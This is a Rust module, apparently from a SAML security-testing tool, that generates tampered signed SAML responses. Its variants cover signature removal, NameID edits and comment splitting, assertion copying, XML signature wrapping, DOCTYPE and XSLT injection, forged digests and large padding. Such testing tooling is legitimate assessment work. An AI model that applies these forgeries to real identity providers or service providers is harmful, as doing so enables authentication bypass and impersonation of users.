//! Tampering: edits of the signed, serialized response. One function per variant.
//!
//! Nodes are located with roxmltree, which reports byte ranges into the text, and the text is
//! spliced at those ranges, so everything the edit does not touch stays byte-for-byte as signed.

use std::ops::Range;

use roxmltree::{Document, Node};

use super::PipelineError;
use crate::dsig::SignatureKey;
use crate::plan::{
    CopyPosition, DigestAlgorithm, SignatureAlgorithm, SignatureSelector, Tamper, TextField,
    TextSplit,
};
use crate::xml::{NS_DS, NS_SAML, NS_SAMLP, escape_attr, escape_text, strict_options};

mod differential;
mod signature;
mod structure;
mod text;
pub mod wrapping;

/// What re-signing tamperings sign with: the plan's key and algorithm.
#[derive(Debug, Clone, Copy)]
pub(crate) struct TamperContext<'a> {
    /// The key (and the HMAC secret).
    pub key: SignatureKey<'a>,
    /// The plan's signature algorithm.
    pub algorithm: SignatureAlgorithm,
    /// The plan's digest algorithm.
    pub digest: DigestAlgorithm,
}

/// Applies one tampering to the serialized response.
pub(crate) fn apply(
    tamper: &Tamper,
    xml: &str,
    ctx: &TamperContext<'_>,
) -> Result<String, PipelineError> {
    let doc = parse(xml)?;
    let edits = match tamper {
        Tamper::RemoveSignature { which } => remove_signature(&doc, *which)?,
        Tamper::EditNameId { value } => edit_name_id(&doc, value)?,
        Tamper::CommentInNameId { after } => {
            text::split(&doc, TextField::NameId, after, TextSplit::Comment)?
        }
        Tamper::SplitText { field, after, with } => text::split(&doc, *field, after, *with)?,
        Tamper::InsertAssertionCopy {
            position,
            name_id,
            keep_id,
        } => insert_assertion_copy(&doc, xml, *position, name_id.as_deref(), *keep_id)?,
        Tamper::ReferenceUri { which, value } => reference_uri(&doc, *which, value)?,
        Tamper::Doctype { entity, url } => {
            return text::doctype(&doc, xml, *entity, url.as_deref());
        }
        Tamper::TrailingRoot { name_id } => {
            return wrapping::trailing_root(&doc, xml, name_id.as_deref());
        }
        Tamper::Xsw { variant, name_id } => wrapping::xsw(&doc, xml, *variant, name_id)?,
        Tamper::ObjectReference { name_id } => {
            let moved = splice(xml, wrapping::object_reference(&doc, xml, name_id)?);
            return signature::edit_signed_info(
                &moved,
                SignatureSelector::Assertion,
                signature::SignedInfoEdit::DropEnveloped,
                ctx,
            );
        }
        Tamper::ExtraNameId { name_id } => wrapping::extra_name_id(&doc, name_id)?,
        Tamper::SecondSignedInfo { name_id } => {
            return signature::second_signed_info(&doc, xml, name_id, ctx);
        }
        Tamper::DigestComment { name_id } => {
            return signature::forged_digest(xml, name_id, signature::DigestPlace::Comment, ctx);
        }
        Tamper::StrayDigestValue { name_id } => {
            return signature::forged_digest(xml, name_id, signature::DigestPlace::Extensions, ctx);
        }
        Tamper::OddNamespace { uri } => signature::odd_namespace(&doc, xml, uri)?,
        Tamper::EnvelopingSignature => {
            return signature::re_sign_outside(&doc, xml, signature::Shape::Enveloping, ctx);
        }
        Tamper::DetachedSignature => {
            return signature::re_sign_outside(&doc, xml, signature::Shape::Detached, ctx);
        }
        Tamper::XsltTransform { which, url } => {
            return signature::edit_signed_info(
                xml,
                *which,
                signature::SignedInfoEdit::Xslt(url),
                ctx,
            );
        }
        Tamper::ExtraTransform { which } => {
            return signature::edit_signed_info(
                xml,
                *which,
                signature::SignedInfoEdit::ExtraTransform,
                ctx,
            );
        }
        Tamper::ExtraReference { which } => {
            return signature::edit_signed_info(
                xml,
                *which,
                signature::SignedInfoEdit::ExtraReference,
                ctx,
            );
        }
        Tamper::CanonicalizationMethod { which, algorithm } => {
            return signature::edit_signed_info(
                xml,
                *which,
                signature::SignedInfoEdit::Canonicalization(algorithm),
                ctx,
            );
        }
        Tamper::Padding { bytes } => return padding(&doc, xml, *bytes),
        Tamper::Id { element, value } => return structure::id(xml, *element, value, ctx),
        Tamper::SecondSignedAssertion { name_id } => {
            return structure::second_signed_assertion(xml, name_id, ctx);
        }
        Tamper::SchemaInvalid { shape } => return structure::schema_invalid(xml, *shape, ctx),
        Tamper::KeyInfoRetrieval { which, url } => {
            signature::key_info_retrieval(&doc, xml, *which, url)?
        }
        Tamper::DoctypeRoundTrip { name_id } => {
            return differential::doctype_round_trip(&doc, xml, name_id);
        }
        Tamper::AttlistNamespace { name_id } => {
            return differential::attlist_namespace(&doc, xml, name_id, ctx);
        }
        Tamper::VoidCanonicalization { uri } => {
            signature::void_canonicalization(&doc, xml, uri, ctx)?
        }
        Tamper::RelocatedSignature { name_id } => {
            wrapping::relocated_signature(&doc, xml, name_id)?
        }
        Tamper::ForeignId { name_id } => wrapping::foreign_id(&doc, xml, name_id)?,
        Tamper::Libxml2IdEntities { name_id } => {
            return differential::libxml2_id_entities(&doc, xml, name_id);
        }
        Tamper::AssertionInForgedAssertion { name_id } => {
            wrapping::assertion_in_forged_assertion(&doc, xml, name_id)?
        }
        Tamper::Wrap {
            slot,
            position,
            id,
            name_id,
        } => return wrapping::wrap(&doc, xml, *slot, *position, *id, name_id),
        Tamper::SignatureInForgedAssertion { name_id, original } => {
            wrapping::signature_in_forged_assertion(&doc, xml, name_id, *original)?
        }
    };
    Ok(splice(xml, edits))
}

fn parse(xml: &str) -> Result<Document<'_>, PipelineError> {
    Document::parse_with_options(xml, strict_options())
        .map_err(|e| PipelineError::Plan(format!("failed to parse the signed response: {e}")))
}

type Edit = (Range<usize>, String);

/// Whether `sig` (a `ds:Signature`) is one `which` selects.
fn selected(sig: Node<'_, '_>, which: SignatureSelector) -> bool {
    let parent = sig.parent_element();
    match which {
        SignatureSelector::All => true,
        SignatureSelector::Response => {
            parent.is_some_and(|p| p.has_tag_name((NS_SAMLP, "Response")))
        }
        SignatureSelector::Assertion => {
            parent.is_some_and(|p| p.has_tag_name((NS_SAML, "Assertion")))
        }
    }
}

/// The signatures `which` selects, in document order.
fn signatures<'a, 'input>(
    doc: &'a Document<'input>,
    which: SignatureSelector,
) -> Vec<Node<'a, 'input>> {
    doc.descendants()
        .filter(|n| n.has_tag_name((NS_DS, "Signature")) && selected(*n, which))
        .collect()
}

/// The `ds:Signature` child of `node`, if any.
fn signature_of<'a, 'input>(node: Node<'a, 'input>) -> Option<Node<'a, 'input>> {
    node.children()
        .find(|n| n.has_tag_name((NS_DS, "Signature")))
}

fn remove_signature(
    doc: &Document<'_>,
    which: SignatureSelector,
) -> Result<Vec<Edit>, PipelineError> {
    let edits: Vec<Edit> = signatures(doc, which)
        .into_iter()
        .map(|sig| (sig.range(), String::new()))
        .collect();
    if edits.is_empty() && which != SignatureSelector::All {
        return Err(PipelineError::Plan(format!(
            "tamper `remove-signature` ({which:?}): the response has no such signature; check the signing layout"
        )));
    }
    Ok(edits)
}

fn edit_name_id(doc: &Document<'_>, value: &str) -> Result<Vec<Edit>, PipelineError> {
    let name_id = doc
        .descendants()
        .find(|n| n.has_tag_name((NS_SAML, "NameID")) && in_subject(*n))
        .ok_or_else(|| {
            PipelineError::Plan("tamper `edit-name-id`: the response has no NameID".into())
        })?;
    let text = name_id
        .first_child()
        .filter(Node::is_text)
        .ok_or_else(|| PipelineError::Plan("tamper `edit-name-id`: the NameID is empty".into()))?;
    Ok(vec![(text.range(), escape_text(value))])
}

fn name_id_text<'a, 'input>(
    doc: &'a Document<'input>,
    kind: &str,
) -> Result<Node<'a, 'input>, PipelineError> {
    doc.descendants()
        .find(|n| n.has_tag_name((NS_SAML, "NameID")) && in_subject(*n))
        .and_then(|n| n.first_child().filter(Node::is_text))
        .ok_or_else(|| {
            PipelineError::Plan(format!("tamper `{kind}`: the response has no NameID text"))
        })
}

fn signed_assertion<'a, 'input>(
    doc: &'a Document<'input>,
) -> Result<Node<'a, 'input>, PipelineError> {
    doc.root_element()
        .children()
        .find(|n| n.has_tag_name((NS_SAML, "Assertion")))
        .ok_or_else(|| PipelineError::Plan("tamper: the response has no assertion".into()))
}

/// The signed assertion and its own signature, or a plan error naming the tampering and the
/// layouts it needs.
fn signed_assertion_and_signature<'a, 'input>(
    doc: &'a Document<'input>,
    kind: &str,
) -> Result<(Node<'a, 'input>, Node<'a, 'input>), PipelineError> {
    let assertion = signed_assertion(doc)?;
    let signature = signature_of(assertion).ok_or_else(|| {
        PipelineError::Plan(format!(
            "tamper `{kind}` needs a signed Assertion; use the layout `assertion` or `both`"
        ))
    })?;
    Ok((assertion, signature))
}

fn insert_assertion_copy(
    doc: &Document<'_>,
    xml: &str,
    position: CopyPosition,
    name_id: Option<&str>,
    keep_id: bool,
) -> Result<Vec<Edit>, PipelineError> {
    let assertion = signed_assertion(doc)?;
    let range = assertion.range();
    let mut inner: Vec<Edit> = Vec::new();
    for sig in assertion
        .children()
        .filter(|n| n.has_tag_name((NS_DS, "Signature")))
    {
        inner.push((sig.range(), String::new()));
    }
    if let Some(value) = name_id {
        let text = name_id_text(doc, "insert-assertion-copy")?;
        if range.contains(&text.range().start) {
            inner.push((text.range(), escape_text(value)));
        }
    }
    let mut copy = xml[range.clone()].to_owned();
    let shifted: Vec<Edit> = inner
        .into_iter()
        .map(|(r, s)| ((r.start - range.start)..(r.end - range.start), s))
        .collect();
    copy = splice(&copy, shifted);
    let old_id = assertion.attribute("ID").unwrap_or_default();
    if !keep_id {
        copy = copy.replacen(
            &format!("ID=\"{old_id}\""),
            &format!("ID=\"{}\"", crate::xml::new_id()),
            1,
        );
    }
    let at = match position {
        CopyPosition::Before => range.start,
        CopyPosition::After => range.end,
    };
    Ok(vec![(at..at, copy)])
}

fn reference_uri(
    doc: &Document<'_>,
    which: SignatureSelector,
    value: &str,
) -> Result<Vec<Edit>, PipelineError> {
    let mut edits = Vec::new();
    for sig in signatures(doc, which) {
        if let Some(reference) = sig
            .descendants()
            .find(|n| n.has_tag_name((NS_DS, "Reference")))
            && let Some(attr) = reference.attribute_node("URI")
        {
            edits.push((attr.range_value(), crate::xml::escape_attr(value)));
        }
    }
    if edits.is_empty() {
        return Err(PipelineError::Plan(format!(
            "tamper `reference-uri` ({which:?}): the response has no such signature; check the signing layout"
        )));
    }
    Ok(edits)
}

/// The largest [`Tamper::Padding`].
const MAX_PADDING: usize = 64 << 20;

fn padding(doc: &Document<'_>, xml: &str, bytes: usize) -> Result<String, PipelineError> {
    if bytes > MAX_PADDING {
        return Err(PipelineError::Plan(format!(
            "tamper `padding`: {bytes} bytes is more than the limit of {MAX_PADDING}"
        )));
    }
    let at = doc.root_element().range().start;
    let mut out = String::with_capacity(xml.len() + bytes + 8);
    out.push_str(&xml[..at]);
    out.push_str("<!--");
    out.push_str(&"A".repeat(bytes));
    out.push_str("-->");
    out.push_str(&xml[at..]);
    Ok(out)
}

fn in_subject(node: Node<'_, '_>) -> bool {
    node.parent_element()
        .is_some_and(|p| p.has_tag_name((NS_SAML, "Subject")))
}

/// Applies non-overlapping edits, last first so earlier ranges stay valid.
fn splice(xml: &str, mut edits: Vec<Edit>) -> String {
    edits.sort_by_key(|(range, _)| std::cmp::Reverse(range.start));
    let mut out = xml.to_owned();
    for (range, replacement) in edits {
        out.replace_range(range, &replacement);
    }
    out
}

/// The text of `node` with `edits` (ranges in the whole document, inside the node) applied.
fn copy(xml: &str, node: Node<'_, '_>, edits: Vec<Edit>) -> String {
    let range = node.range();
    let shifted = edits
        .into_iter()
        .map(|(r, s)| ((r.start - range.start)..(r.end - range.start), s))
        .collect();
    splice(&xml[range], shifted)
}

/// SAMLRaider's match and replace: every text node under `node` whose whole value is `from`
/// becomes `to`. Text inside signatures is left alone (nothing there is an identity).
fn identity_edits(node: Node<'_, '_>, from: &str, to: &str) -> Vec<Edit> {
    node.descendants()
        .filter(|n| n.is_text() && n.text() == Some(from))
        .filter(|n| !n.ancestors().any(|a| a.has_tag_name((NS_DS, "Signature"))))
        .map(|n| (n.range(), escape_text(to)))
        .collect()
}

/// Replaces the element's `ID` attribute value.
fn id_edit(node: Node<'_, '_>, id: &str) -> Result<Edit, PipelineError> {
    node.attribute_node("ID")
        .map(|a| (a.range_value(), crate::xml::escape_attr(id)))
        .ok_or_else(|| PipelineError::Plan("tamper: the element has no ID".into()))
}

/// The byte offset of the element's end tag (where a last child goes).
fn content_end(xml: &str, node: Node<'_, '_>) -> usize {
    crate::dsig::inner_range(xml, node).end
}

/// The signed NameID's text (what SAMLRaider's match string is).
fn signed_name(doc: &Document<'_>, kind: &str) -> Result<String, PipelineError> {
    Ok(name_id_text(doc, kind)?
        .text()
        .unwrap_or_default()
        .to_owned())
}

/// The element's qualified name as written in its start tag (`samlp:Response`).
fn qualified_name<'x>(xml: &'x str, node: Node<'_, '_>) -> &'x str {
    let tag = &xml[node.range().start + 1..node.range().end];
    &tag[..tag
        .find(|c: char| c.is_whitespace() || c == '>' || c == '/')
        .unwrap_or(tag.len())]
}

/// Inserts `text` (attributes, with their leading space) into the element's start tag, right
/// after its name.
fn start_tag_insert(xml: &str, node: Node<'_, '_>, text: String) -> Edit {
    let at = node.range().start + 1 + qualified_name(xml, node).len();
    (at..at, text)
}

/// Declares `xmlns:{prefix}="{uri}"` on the element.
fn declare_namespace(xml: &str, node: Node<'_, '_>, prefix: &str, uri: &str) -> Edit {
    start_tag_insert(
        xml,
        node,
        format!(" xmlns:{prefix}=\"{}\"", escape_attr(uri)),
    )
}

/// The text of `node` without its own `ds:Signature` child (if any).
fn without_signature(xml: &str, node: Node<'_, '_>) -> String {
    copy(
        xml,
        node,
        signature_of(node)
            .map(|sig| (sig.range(), String::new()))
            .into_iter()
            .collect(),
    )
}

/// The edits that make `node` say `name_id` wherever it says the signed NameID `original`
/// (SAMLRaider's match and replace), refused when nothing matches.
fn forged_identity(
    node: Node<'_, '_>,
    original: &str,
    name_id: &str,
    kind: &str,
) -> Result<Vec<Edit>, PipelineError> {
    let edits = identity_edits(node, original, name_id);
    if edits.is_empty() {
        return Err(PipelineError::Plan(format!(
            "tamper `{kind}`: no text equal to the signed NameID {original:?} to replace"
        )));
    }
    Ok(edits)
}

/// `body` with `dtd` before its root: after the XML declaration when there is one.
fn with_doctype(body: &str, dtd: &str) -> String {
    match body.find("?>").filter(|_| body.starts_with("<?xml")) {
        Some(end) => format!("{}{dtd}{}", &body[..end + 2], &body[end + 2..]),
        None => format!("{dtd}{body}"),
    }
}
